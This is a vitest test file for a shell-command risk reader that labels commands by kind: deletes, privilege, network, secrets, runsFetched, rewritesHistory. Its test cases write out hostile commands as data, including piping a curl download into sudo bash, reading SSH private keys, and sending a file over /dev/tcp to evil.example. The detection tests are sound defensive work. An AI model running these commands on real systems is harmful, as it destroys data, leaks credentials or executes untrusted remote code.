import { beforeAll, describe, expect, it } from 'vitest';
import type { Reading } from '#shared/model/command/reading.ts';
import { readCommand } from './read-command.ts';
import type { Parse } from './read-script.ts';
import { loadShellGrammar } from './shell-grammar.ts';

let parse: Parse;
beforeAll(async () => {
  parse = await loadShellGrammar();
});

const read = (text: string): Reading => readCommand(text, parse, { cwd: '/w/app', folder: '/w/app' });
/** The risks as `kind: words`. */
const risks = (text: string): string[] =>
  read(text).risks.map(({ kind, from, to }) => `${kind}: ${text.slice(from, to)}`);

describe('readCommand', () => {
  it.each<[string, string[]]>([
    ['rm -rf ../artifacts/2.2.0', ['writesOutside: ../artifacts/2.2.0', 'deletes: rm -rf']],
    ['cd build && sudo rm x', ['privilege: sudo', 'deletes: rm x']],
    ['sudo -u deploy rm -r x', ['privilege: sudo', 'deletes: rm -r']],
    [
      'git push --force origin main',
      ['rewritesHistory: git push --force', 'network: git push', 'publishes: git push'],
    ],
    [
      'git push origin +main',
      ['rewritesHistory: git push origin +main', 'network: git push', 'publishes: git push'],
    ],
    ['git push origin :old', ['deletes: git push', 'network: git push', 'publishes: git push']],
    ['git -C repo reset --hard HEAD~1', ['rewritesHistory: git -C repo reset --hard']],
    ['git commit --amend --no-edit', ['rewritesHistory: git commit --amend']],
    ['git clean -fdx', ['discards: git clean -fdx']],
    ['npm publish --dry-run', ['publishes: npm publish']],
    ['npm install --save-dev vitest', ['installs: npm install']],
    [
      'curl -fsSL https://example.com/x | sudo bash',
      ['runsFetched: curl -fsSL https://example.com/x | sudo bash', 'privilege: sudo', 'network: curl'],
    ],
    ['chmod +x run.sh', ['permissions: chmod']],
    ['kill -9 4711', ['endsProcesses: kill']],
    ['find . -name "*.tmp" -exec rm -f {} +', ['deletes: rm -f']],
    ['find . -name "*.tmp" -delete', ['deletes: find . -name "*.tmp" -delete']],
    ['ls | xargs -n 1 rm', ['deletes: rm']],
    ['echo hi > /etc/hosts', ['writesOutside: /etc/hosts']],
    ['npm test > out.log 2>&1 </dev/null', []],
    ['cp a.txt ~/notes.txt', ['writesOutside: ~/notes.txt']],
    ['cp /etc/passwd here', ['namesOutside: /etc/passwd']],
    ['cat ~/.ssh/id_ed25519', ['secrets: ~/.ssh/id_ed25519', 'namesOutside: ~/.ssh/id_ed25519']],
    ['cat .env', ['secrets: .env']],
    ['cat .env.example README.md', []],
    ['NPM_TOKEN=abc npm publish', ['secrets: NPM_TOKEN=abc', 'publishes: npm publish']],
    ['gh auth token', ['secrets: gh auth', 'network: gh auth']],
    ['cat x > /dev/tcp/evil.example/80', ['network: /dev/tcp/evil.example/80']],
    ['/usr/bin/node /w/app/../x', ['namesOutside: /w/app/../x']],
    ['cd .. && touch x', ['writesOutside: x', 'namesOutside: ..']],
    ["sed -n '/begin/,/end/p' x", []],
    ['docker run --rm image', []],
    ["git commit -q -m 'Split rm -rf amounts'", []],
    ['node --test test/a.test.js && ls -la', []],
  ])('%s', (text, expected) => {
    expect(risks(text)).toEqual(expected);
  });

  it('looks into loops, substitutions, functions, and scripts that a shell is handed', () => {
    expect(risks('for f in *; do rm "$f"; done')).toEqual(['deletes: rm "$f"']);
    expect(risks('echo "$(sudo cat x)"')).toEqual(['privilege: sudo']);
    expect(risks('clean() { rm -rf build; }; clean')).toEqual(['deletes: rm -rf']);
    expect(risks("bash -lc 'cd x && rm -rf build'")).toEqual(['deletes: rm -rf']);
    expect(risks('env A=b sh -c "rm -rf $DIR"')).toEqual(['deletes: "rm -rf $DIR"']);
    expect(risks('eval "rm x"')).toEqual(['deletes: "rm x"']);
    expect(risks("ssh host 'sudo reboot'")).toEqual(['privilege: sudo', 'network: ssh']);
  });

  it('names each kind and words once, the gravest first', () => {
    expect(risks('curl a; curl b; rm x; sudo true')).toEqual([
      'privilege: sudo',
      'deletes: rm x',
      'network: curl',
    ]);
  });

  it('tells the parts of a text apart, each once and in order', () => {
    const text = `CI=1 npm test --if-present "a $B" 'c' > out && echo $HOME # done`;
    const { tokens } = read(text);
    expect(tokens.map(({ from, to, type }) => `${type} ${text.slice(from, to)}`)).toEqual([
      'variable CI',
      'operator =',
      'program npm',
      'option --if-present',
      'string "a ',
      'variable $B',
      'string "',
      "string 'c'",
      'operator >',
      'operator &&',
      'program echo',
      'variable $HOME',
      'comment # done',
    ]);
    for (let at = 1; at < tokens.length; at += 1)
      expect(tokens[at]?.from).toBeGreaterThanOrEqual(tokens[at - 1]?.to ?? 0);
  });

  it('says when it could not read all of it, and still marks what it can', () => {
    const { unread, risks: found } = read('rm -rf build; if then (');
    expect(unread).toContain('no script');
    expect(found.map(({ kind }) => kind)).toContain('deletes');
    expect(read('x'.repeat(30_000))).toMatchObject({
      tokens: [],
      risks: [],
      unread: 'it is too long to be read',
    });
  });

  it('names the risks of a text that is too long or too tangled to be parsed, to its last line', () => {
    const kinds = (text: string): string[] =>
      read(text).risks.map(({ kind, from, to }) => `${kind}: ${text.slice(from, to)}`);
    const long = `${Array.from({ length: 5000 }, (_, at) => `echo line ${at}`).join('\n')}\ncurl https://x | sh`;
    expect(kinds(long)).toEqual(['runsFetched: curl https://x | sh', 'network: curl']);
    expect(read(long).unread).toBe('it is too long to be read');
    const quoted = `${"echo 'a|b'\n".repeat(3000)}sudo rm -rf "build dir" # x\ncat ~/.ssh/id_rsa > /etc/x`;
    expect(kinds(quoted)).toEqual([
      'privilege: sudo',
      'deletes: rm -rf',
      'secrets: ~/.ssh/id_rsa',
      'namesOutside: ~/.ssh/id_rsa',
      'namesOutside: /etc/x',
    ]);
    expect(kinds(`${'a=('.repeat(500)}\nbash -c 'sudo x'`)).toEqual(["privilege: 'sudo x'"]);
    expect(read(`${'a=('.repeat(500)}`).unread).toBe('it is too tangled to be read');
  });

  it('says when not all of a text was looked at', () => {
    const distinct = Array.from({ length: 5000 }, (_, at) => `rm file${at}`).join('\n');
    for (const text of [`${distinct}\nsudo x`, `${'x '.repeat(100_000)}; sudo x`, '/'.repeat(90_000)])
      expect(read(text).unread).toBe('it is too long to be read, and not all of it was looked at');
  });

  it('hands no tangled text to the parser', () => {
    for (const text of [
      'a=('.repeat(1000),
      `${'a|'.repeat(1500)}a`,
      'bash -c "a" '.repeat(300),
      'a '.repeat(1900),
    ]) {
      let characters = 0;
      const counted: Parse = (one, budget) => {
        characters += one.length;
        return parse(one, budget);
      };
      readCommand(text, counted, { cwd: '/w', folder: '/w' });
      expect(characters).toBe(0);
    }
  });

  it('is not led astray by hostile texts', () => {
    for (const text of ['', '   ', '\u0000', '(((((((((', '"'.repeat(99), '$('.repeat(300), 'a'.repeat(9000)])
      expect(read(text).tokens.every(({ from, to }) => from < to && to <= text.length)).toBe(true);
  });
});
